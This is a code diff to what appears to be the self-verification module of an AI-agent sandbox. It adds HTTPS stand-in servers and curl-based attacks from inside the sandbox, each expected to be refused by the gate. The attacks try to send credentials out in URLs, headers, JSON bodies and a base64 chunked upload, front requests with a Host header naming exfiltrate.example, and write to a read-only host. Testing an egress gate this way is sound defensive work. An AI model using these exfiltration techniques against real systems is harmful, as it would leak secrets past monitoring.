@@ -9,11 +9,13 @@ privileges run in the bottle as the agent user; attacks on the network run in it
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import dataclasses
 import json
 import secrets
 import socket
+import string
 import tempfile
 import time
 from collections.abc import Callable, Iterator
@@ -28,18 +30,24 @@ from docker.models.containers import Container
 from claude_bottle.config import AgentConfig
 from claude_bottle.credentials import Credential
 from claude_bottle.errors import DockerError, GateError
+from claude_bottle.gate.ca import RunCA
 from claude_bottle.gate.config import Limits
+from claude_bottle.gate.routes import CredentialRoute, new_sentinel
 from claude_bottle.launch import Launch, Progress, build_images, interrupt, on_stop_signals, started
 from claude_bottle.persistence import Plants, make_repository, share
-from claude_bottle.policy.hosts import parse_pattern
-from claude_bottle.policy.rules import HostRules
+from claude_bottle.policy.hosts import Allowlist, parse_pattern
+from claude_bottle.policy.rules import HostRules, make_host_rules
 from claude_bottle.probe import Outcome
 from claude_bottle.runtime import engine
-from claude_bottle.runtime.bottle import AGENT_LABEL, LABEL, RUN_LABEL, Run, remove_run, state_volume
+from claude_bottle.runtime.bottle import AGENT_LABEL, API_PORT, LABEL, RUN_LABEL, Run, remove_run, state_volume
 
 STUB_PORT = 8000
 PRIVATE_NAME = f"canary:{STUB_PORT}"  # allowlisted on purpose: the name resolves to a private address
 FRONT = "front"  # an allowed host the bottle may reach (its address too), to attack what tunnels carry
+# HTTPS stand-ins the gate inspects: one open to any request (DLP alone judges what it carries), one under
+# the read-only rules of the -read presets. Their CA is verify's own, trusted by the gate toward them only.
+INSPECTED, READ_ONLY = "inspected", "registry"
+TLS_PORT = 8443
 PUBLIC_IPV4 = ("1.1.1.1", "8.8.8.8")
 PUBLIC_IPV6 = ("2606:4700:4700::1111",)
 PROBE_SECONDS = 120
@@ -93,6 +101,7 @@ class Verification:
     gate_image: str
     host: HostCanary
     host_addresses: tuple[str, ...]
+    https: dict[str, Container]  # the HTTPS stand-ins the gate inspects, by name
     attacker_key: str = dataclasses.field(default_factory=lambda: "sk-ant-api03-attacker-" + secrets.token_hex(16))
 
 
@@ -122,13 +131,16 @@ def _wait_for_log(container: Container, line: str, what: str, seconds: float = 3
 
 
 def stub_container(client: docker.DockerClient, image: str, network: str, alias: str, name: str,
-          labels: dict[str, str]) -> Container:
-    """A stub Messages API from the gate image, known on ``network`` as ``alias``, logging each request."""
+                   labels: dict[str, str], tls: Path | None = None) -> Container:
+    """A stub Messages API from the gate image, known on ``network`` as ``alias``, logging each request; with
+    ``tls`` (a PEM file of a chain and key, mounted read-only), on HTTPS port ``TLS_PORT``."""
+    port, served = (STUB_PORT, []) if tls is None else (TLS_PORT, ["--tls", "/opt/stub/tls.pem"])
     container = client.containers.create(
         image, entrypoint=["/opt/gate/bin/python", "-m", "claude_bottle", "stub-upstream", "--listen",
-                           f"{alias}:{STUB_PORT}", "--log"],
+                           f"{alias}:{port}", "--log", *served],
         name=name, labels=labels, network=network,
         networking_config={network: client.api.create_endpoint_config(aliases=[alias])},
+        volumes={str(tls): {"bind": "/opt/stub/tls.pem", "mode": "ro"}} if tls else None,
         cap_drop=["ALL"], security_opt=["no-new-privileges"], read_only=True)
     container.start()
     _wait_for_log(container, "stub upstream on", f"the {alias} container")
@@ -159,6 +171,8 @@ class StandIns:
     outside: str  # the network of the stand-ins
     host: HostCanary
     progress: Progress
+    https: dict[str, Container]  # the HTTPS stand-ins by name (INSPECTED, READ_ONLY)
+    https_ca: Path  # their CA, trusted by the gate toward them
     workspaces: list[Path] = dataclasses.field(default_factory=list)  # scratch projects bottles were started on
 
 
@@ -169,7 +183,7 @@ def stand_ins(agent: AgentConfig, progress: Progress, credential: Credential | N
     verify_id = f"verify-{secrets.token_hex(4)}"
     labels = {LABEL: "1", RUN_LABEL: verify_id, AGENT_LABEL: agent.name}
     workspaces: list[Path] = []
-    with on_stop_signals(interrupt):
+    with on_stop_signals(interrupt), tempfile.TemporaryDirectory(prefix="claude-bottle-verify-tls-") as tls:
         client = engine.connect()
         host = HostCanary()
         try:
@@ -185,11 +199,15 @@ def stand_ins(agent: AgentConfig, progress: Progress, credential: Credential | N
             # before any attack reached them.
             opaque = tuple(HostRules(parse_pattern(p), inspect=False) for p in (PRIVATE_NAME, f"{FRONT}:{STUB_PORT}",
                                                                                FRONT))
-            tested = dataclasses.replace(agent, allow=(*agent.allow, PRIVATE_NAME, f"{FRONT}:{STUB_PORT}", FRONT),
-                                         egress=dataclasses.replace(agent.egress, hosts=(*agent.egress.hosts, *opaque)),
-                                         allow_private=(*agent.allow_private, f"{_address(front)}/32"))
-            yield StandIns(client, tested, credential, stub, canary, gate_image, outside.name, host, progress,
-                           workspaces)
+            ca, files = _https_files(Path(tls))
+            https = {name: stub_container(client, gate_image, outside.name, name, f"claude-bottle-{verify_id}-{name}",
+                                          labels, files[name]) for name in (INSPECTED, READ_ONLY)}
+            tested = dataclasses.replace(
+                agent, allow=(*agent.allow, PRIVATE_NAME, f"{FRONT}:{STUB_PORT}", FRONT, f"{INSPECTED}:{TLS_PORT}"),
+                egress=dataclasses.replace(agent.egress, hosts=(*agent.egress.hosts, *opaque, *inspected_rules())),
+                allow_private=(*agent.allow_private, *(f"{_address(c)}/32" for c in (front, *https.values()))))
+            yield StandIns(client, tested, credential, stub, canary, gate_image, outside.name, host, progress, https,
+                           ca, workspaces)
         except docker.errors.APIError as exc:
             raise DockerError(f"verify: {exc.explanation or exc}") from None
         finally:
@@ -201,18 +219,42 @@ def stand_ins(agent: AgentConfig, progress: Progress, credential: Credential | N
             host.close()
 
 
+def inspected_rules() -> tuple[HostRules, ...]:
+    """The ``[[egress]]`` entries of the HTTPS stand-ins: the read-only one under the rules of the -read
+    presets (GET and HEAD only); the open one needs none (it is in the allowlist, so inspected)."""
+    return (make_host_rules(f"{READ_ONLY}:{TLS_PORT}", allow=["GET /**", "HEAD /**"]),)
+
+
+def _https_files(folder: Path) -> tuple[Path, dict[str, Path]]:
+    """A CA for the HTTPS stand-ins' names only, and a leaf for each: (the CA's certificate, the leaves
+    with their keys), as files in ``folder`` (readable by the stand-ins' and the gate's users)."""
+    ca = RunCA.generate(Allowlist.parse([INSPECTED, READ_ONLY]).patterns)
+    files = {"ca": ca.certificate_pem, **{name: ca.issue(name) for name in (INSPECTED, READ_ONLY)}}
+    paths = {}
+    for name, data in files.items():
+        paths[name] = folder / f"{name}.pem"
+        paths[name].write_bytes(data)
+        paths[name].chmod(0o644)
+    return paths.pop("ca"), paths
+
+
 @contextlib.contextmanager
 def bottle_on(env: StandIns, workspace: Path) -> Iterator[Verification]:
     """A sleeping bottle of the agent on ``workspace``, started the way ``start`` would, against the stand-ins;
     the run is removed on the way out (its Claude state stays until the stand-ins go, for later bottles)."""
     env.workspaces.append(workspace)
-    launch = Launch(env.agent, workspace, env.credential, f"http://stub:{STUB_PORT}", (env.outside,))
+    # The agent's credential routes get throwaway values too: verify never reads the user's.
+    routes = tuple(CredentialRoute(c.spec(new_sentinel(c.name)), "verify-" + secrets.token_urlsafe(24))
+                   for c in env.agent.credentials)
+    launch = Launch(env.agent, workspace, env.credential, f"http://stub:{STUB_PORT}", (env.outside,),
+                    upstream_ca_files=(env.https_ca,), routes=routes)
     # The run's review of protected files is verify's own business (the persistence group judges it).
     with started(launch, env.progress, review=lambda report: None) as run:
         assert run.internal is not None and run.egress is not None
         run.create_bottle(["sleep", "infinity"], tty=False).start()
         yield Verification(run, env.credential, env.stub, env.canary, env.gate_image, env.host,
-                           _gateways(env.client, ["bridge", run.internal.name, run.egress.name, env.outside]))
+                           _gateways(env.client, ["bridge", run.internal.name, run.egress.name, env.outside]),
+                           env.https)
 
 
 @contextlib.contextmanager
@@ -315,13 +357,156 @@ FILE_SEARCH = Check(CREDENTIAL, "a search of the whole file system and home dire
                     _nothing("found in", "not found"))
 
 
+def held_values(target: Verification) -> tuple[str, ...]:
+    """What the bottle must never find: the throwaway credential and each credential route's value."""
+    return (target.credential.secret, *(route.secret for route in target.run.spec.routes))
+
+
+def judged_for_each(check: Check, code: int, output: str, values: tuple[str, ...]) -> tuple[str, bool]:
+    """``check``'s verdict for every value: blocked only if blocked for each; the first leak otherwise."""
+    verdicts = [check.judge(code, output, value) for value in values]
+    return next((v for v in verdicts if not v[1]), verdicts[0])
+
+
 def bottle_attacks(target: Verification) -> list[Outcome]:
     outcomes = []
-    secret = target.credential.secret
+    values = held_values(target)
     for check in (*BOTTLE_CHECKS, FILE_SEARCH):
-        code, output = in_bottle(target.run, check.script, secret if check is FILE_SEARCH else None)
-        actual, blocked = check.judge(code, output, secret)
+        code, output = in_bottle(target.run, check.script, "\n".join(values) if check is FILE_SEARCH else None)
+        actual, blocked = judged_for_each(check, code, output, values)
         outcomes.append(Outcome(check.group, check.attack, check.expected, actual, blocked))
+    return outcomes
+
+
+# ---- attacks inside TLS the gate terminates, from the bottle ---------------------------------------------
+
+INSPECTION = "inspected https"
+FILLER = 300_000  # bytes of an upload before its secret: many reads and scanner tails in
+
+
+@dataclass(frozen=True)
+class Inspected:
+    """One request the bottle sends with curl to an HTTPS stand-in the gate inspects, and how it must end.
+    ``path`` is the attack's own, so the stand-in's log tells whether it arrived; ``$S`` in ``curl`` is the
+    secret, which reaches the bottle on curl's shell's standard input only."""
+
+    attack: str
+    expected: str
+    host: str
+    path: str
+    curl: str
+    status: int  # the refusal the gate must answer
+    secret: Callable[[Verification], str] = lambda target: ""
+    upload: bool = False  # curl sends its standard input chunked: FILLER bytes, then the secret on a line
+
+
+def _github_token() -> str:
+    return "ghp_" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(36))
+
+
+def _base64(value: str) -> str:
+    return base64.b64encode(value.encode()).decode()
+
+
+def _credential(target: Verification) -> str:
+    return target.credential.secret
+
+
+INSPECTED_ATTACKS = (
+    Inspected("the credential in the URL of a request inside TLS", "refused (DLP)", INSPECTED, "/verify/url",
+              '"{url}?q=$S"', 403, _credential),
+    Inspected("the credential in a request header inside TLS", "refused (DLP)", INSPECTED, "/verify/header",
+              '-H "X-Note: $S" {url}', 403, _credential),
+    Inspected("the credential in a JSON body inside TLS", "refused (DLP)", INSPECTED, "/verify/body",
+              "-H 'Content-Type: application/json' -d \"{{\\\"note\\\": \\\"$S\\\"}}\" {url}", 403, _credential),
+    Inspected("the credential in base64, 300 KB into a chunked upload", "refused (DLP)", INSPECTED,
+              "/verify/upload", "-T - -H 'Transfer-Encoding: chunked' {url}", 403,
+              lambda target: _base64(target.credential.secret), upload=True),
+    Inspected("a GitHub token (ghp_...) in a request header inside TLS", "refused (DLP)", INSPECTED,
+              "/verify/github", '-H "Authorization: token $S" {url}', 403, lambda target: _github_token()),
+    Inspected("a Host header naming exfiltrate.example inside the tunnel (domain fronting)", "refused (421)",
+              INSPECTED, "/verify/fronted", "-H 'Host: exfiltrate.example' {url}", 421),
+    Inspected(f"PUT to {READ_ONLY}, which read-only rules cover (a publish)", "refused (rule)", READ_ONLY,
+              "/verify/publish", "-X PUT --data-binary 'a package' {url}", 403),
+)
+CONTROLS = tuple(Inspected(f"a clean GET inside TLS to {host} (the control)", "reaches the stand-in", host,
+                           "/verify/control", "{url}", 404) for host in (INSPECTED, READ_ONLY))
+
+
+def _curl(target: Verification, request: Inspected, secret: str = "") -> tuple[int | None, str]:
+    """Send ``request`` with ``secret`` from the bottle: (the final response status or None, its X-Deny-Reason,
+    or curl's last words when no answer came). The attacker does not care whose certificate answers (``-k``):
+    the attack is on what passes, not on trust."""
+    command = (f"curl -k -sS --suppress-connect-headers --max-time 20 -o /dev/null -D - "
+               f"{request.curl.format(url=f'https://{request.host}:{TLS_PORT}{request.path}')}")
+    if request.upload:
+        command = (f"{{ head -c {FILLER} /dev/zero | tr '\\0' a; printf '\\n%s\\n' \"$S\"; }} | {command}")
+    _, output = in_bottle(target.run, f"{{ read -r S; {command}; }} 2>&1", secret)
+    heads = [head for head in output.split("\r\n\r\n") if head.startswith("HTTP/")]
+    if not heads:
+        return None, (output.strip().splitlines()[-1:] or ["no answer"])[0][-80:]
+    lines = heads[-1].split("\r\n")
+    reason = next((line.split(":", 1)[1].strip() for line in lines if line.lower().startswith("x-deny-reason:")), "")
+    return int(lines[0].split()[1]), reason
+
+
+def _arrived(container: Container, path: str) -> list[str]:
+    """What the stand-in logged of requests to ``path``: their targets and headers, as JSON."""
+    lines = container.logs(stdout=True, stderr=False).decode("utf-8", "replace").splitlines()
+    return [line for line in lines if line.startswith("{") and json.loads(line)["target"].startswith(path)]
+
+
+def inspection_attacks(target: Verification) -> list[Outcome]:
+    """Exfiltration inside TLS to allowed hosts, fronting by Host, a write under read-only rules: each must
+    be refused by the gate with its reason and never reach the stand-in. The controls must reach it, else
+    the refusals prove nothing and each attack counts as a leak."""
+    control_ok = True
+    outcomes = []
+    for control in CONTROLS:
+        status, reason = _curl(target, control)
+        arrived = bool(_arrived(target.https[control.host], control.path))
+        control_ok &= arrived
+        outcomes.append(Outcome(INSPECTION, control.attack, control.expected,
+                                f"answered {status}" if arrived else f"did not arrive ({status or reason})", arrived))
+    for request in INSPECTED_ATTACKS:
+        secret = request.secret(target)
+        status, reason = _curl(target, request, secret)
+        got = _arrived(target.https[request.host], request.path)
+        shown = f"HTTP {status}{f' ({reason})' if reason else ''}" if status else reason
+        if got:
+            actual, blocked = f"the stand-in got it ({shown})", False
+        elif secret and secret in reason:
+            actual, blocked = "the refusal quotes the secret", False
+        elif not control_ok:
+            actual, blocked = f"inconclusive: the control did not arrive either ({shown})", False
+        else:
+            actual, blocked = shown, status == request.status and bool(reason)
+        outcomes.append(Outcome(INSPECTION, request.attack, request.expected, actual, blocked))
+    return outcomes
+
+
+SENTINELS = "credential routes"
+
+
+def sentinel_attacks(target: Verification) -> list[Outcome]:
+    """For each credential route of the agent: its sentinel sent out through the allowed channel every bottle
+    has, the API route (in a Messages body, and as the request's credential), must be refused before it
+    reaches the upstream."""
+    outcomes = []
+    api = f"http://{target.run.gate_ip}:{API_PORT}/v1/messages"
+    for route in target.run.spec.routes:
+        sentinel = route.spec.sentinel
+        body = json.dumps({"model": "claude-sonnet-4-5", "max_tokens": 16,
+                           "messages": [{"role": "user", "content": f"remember {sentinel}"}]})
+        name = route.spec.name
+        for attack, headers in ((f"route {name}'s sentinel in a Messages body", ""),
+                                (f"route {name}'s sentinel in a request header", f"-H 'x-note: {sentinel}' ")):
+            _, output = in_bottle(target.run, f"curl -s -o /dev/null -w '%{{http_code}}' -m 20 {headers}"
+                                              f"-H 'content-type: application/json' --data-binary @- {api}", body)
+            arrived = any(sentinel in json.dumps(r) for r in _stub_requests(target))
+            blocked = output.strip() == "403" and not arrived
+            actual = "reached the upstream" if arrived else f"answered {output.strip() or 'nothing'}"
+            outcomes.append(Outcome(SENTINELS, attack, "refused (403)", actual, blocked))
     return outcomes
 
 
@@ -409,13 +594,15 @@ def inspect_outcome(target: Verification) -> Outcome:
         assert container is not None
         container.reload()
         shown += json.dumps(container.attrs)
-    found = target.credential.secret in shown
+    found = any(value in shown for value in held_values(target))
     return Outcome(CREDENTIAL, "docker inspect of the bottle and the gate (from the host)", "no credential",
                    "the credential is shown" if found else "not shown", not found)
 
 
 def attack(target: Verification) -> list[Outcome]:
-    return [*network_attacks(target), *bottle_attacks(target), inspect_outcome(target)]
+    """Every attack on one bottle; those that carry the credential into it (in a pipe) after the file search."""
+    return [*network_attacks(target), *bottle_attacks(target), *sentinel_attacks(target),
+            *inspection_attacks(target), inspect_outcome(target)]
 
 
 def verify(agent: AgentConfig, progress: Progress) -> list[Outcome]:
